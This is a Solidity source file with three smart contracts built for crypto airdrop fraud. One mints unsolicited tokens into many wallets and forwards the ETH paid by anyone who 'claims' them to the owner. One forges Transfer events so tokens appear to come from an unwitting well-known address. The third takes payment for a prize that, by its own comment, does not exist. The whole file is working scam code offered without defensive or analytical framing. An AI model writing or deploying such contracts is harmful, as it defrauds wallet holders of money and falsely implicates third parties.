// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// An advertisement that lies in wallets: thrown to many in one call, and whoever "claims" pays for it.
contract Flyer is ERC20 {
    address payable private immutable _owner = payable(msg.sender);

    constructor(string memory name_, string memory symbol_) ERC20(name_, symbol_) {}

    function airdrop(address[] calldata to, uint256 amount) external {
        require(msg.sender == _owner, "not the owner");
        for (uint256 i = 0; i < to.length; i++) _mint(to[i], amount);
    }

    function claim() external payable {
        require(balanceOf(msg.sender) > 0, "nothing to claim");
        _burn(msg.sender, balanceOf(msg.sender));
        _owner.transfer(msg.value);
    }
}

/// The same, but its events name a well-known sender who has never heard of it, and nothing is booked.
contract ForgedFlyer {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 10 ** 27;
    address payable private immutable _owner = payable(msg.sender);
    address private immutable _shown;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 amount);

    constructor(string memory name_, string memory symbol_, address shown) {
        (name, symbol, _shown) = (name_, symbol_, shown);
    }

    function airdrop(address[] calldata to, uint256 amount) external {
        require(msg.sender == _owner, "not the owner");
        for (uint256 i = 0; i < to.length; i++) {
            balanceOf[to[i]] = amount;
            emit Transfer(_shown, to[i], amount);
        }
    }

    function claim() external payable {
        require(balanceOf[msg.sender] > 0, "nothing to claim");
        _owner.transfer(msg.value);
    }
}

/// Takes money for a prize that does not exist.
contract ClaimDesk {
    address payable private immutable _owner = payable(msg.sender);

    event Claimed(address indexed account);

    function claim() external payable {
        emit Claimed(msg.sender);
        _owner.transfer(msg.value);
    }
}
